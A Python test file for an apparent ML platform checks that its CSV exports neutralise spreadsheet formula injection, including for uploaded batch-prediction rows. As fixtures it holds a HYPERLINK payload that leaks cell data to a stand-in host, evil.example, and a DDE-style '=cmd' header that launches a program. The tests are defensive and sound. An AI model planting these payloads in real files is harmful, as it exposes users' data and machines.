"""Issue 10, item 8: CSV files the product writes for people carry no live formulas.

Threat: a row uploaded for batch prediction (or any value that reaches a download) holds
``=HYPERLINK("http://evil.example/?"&A2, "Click")``. Opened in a spreadsheet, the downloaded results CSV runs it.
OWASP's "CSV Injection" advice: prefix cells starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return with
``'``. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd

from aihub import exports
from aihub.demo import generate_customers
from aihub.services import datasets, jobs, registry
from aihub.services.batch_predictions import predict_batch
from aihub.services.model_config import template_config
from aihub.services.model_training import create_model

ATTACK = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
CELLS = [ATTACK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "plain", "-12.5", "+3", "1e-3", ""]


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_formula_cells_are_neutralised_and_numbers_stay_numbers():
    frame = pd.DataFrame({"text": CELLS, "amount": np.linspace(-5, 5, len(CELLS)),
                          "count": pd.array(range(-5, len(CELLS) - 5), dtype="Int64"),
                          "kind": pd.Categorical(["=cat"] + ["x"] * (len(CELLS) - 1))})
    rows = _rows(exports.to_csv_bytes(frame))
    text = [r[0] for r in rows[1:]]
    assert len(rows) == len(CELLS) + 1  # a carriage return cannot start a new row
    for cell in text:
        assert not cell.startswith(exports.FORMULA_PREFIXES) or cell in ("-12.5", "+3"), repr(cell)
    assert text[0] == "'" + ATTACK and text[6:] == ["plain", "-12.5", "+3", "1e-3", ""]
    assert [float(r[1]) for r in rows[1:]] == list(np.linspace(-5, 5, len(CELLS)))  # negatives untouched
    assert rows[1][2] == "-5" and rows[1][3] == "'=cat"
    header = _rows(exports.to_csv_bytes(pd.DataFrame({"=cmd|' /C calc'!A0": [1]})))[0]
    assert header == ["'=cmd|' /C calc'!A0"]


def test_batch_prediction_download_neutralises_an_uploaded_formula(tenant):
    """The attack as reported: a formula in an uploaded row reaches the results CSV of a batch."""
    train = generate_customers(400)
    saved = datasets.save_upload(tenant, "customers", "customers.csv", train.to_csv(index=False).encode())
    cfg = template_config(tenant, "churn", saved.version.dataset_id, model_name="churn",
                                     algorithm="logistic_regression")
    model, job = create_model(tenant, cfg, saved.version.dataset_id, run=False)
    assert jobs.run_job(tenant.tenant_id, job.id) == "succeeded", registry.get_job(tenant, job.id).error
    registry.deploy(tenant, model.id, registry.list_versions(tenant, model.id)[0].id)

    batch = train.drop(columns="Churned").head(5).copy()
    id_column = batch.columns[0]
    batch[id_column] = batch[id_column].astype(str)
    batch.loc[batch.index[0], id_column] = ATTACK
    outcome = predict_batch(tenant, model.id, "new.csv", batch.to_csv(index=False).encode())
    data = outcome.csv()
    assert "'" + ATTACK in [c for row in _rows(data) for c in row]  # the value is kept, readable ...
    for row in _rows(data)[1:]:  # ... but no cell starts a formula
        assert not any(c.startswith(("=", "@", "\t", "\r")) for c in row), row
        assert all(not c.startswith(("+", "-")) or c.lstrip("+-").replace(".", "", 1).isdigit() for c in row), row
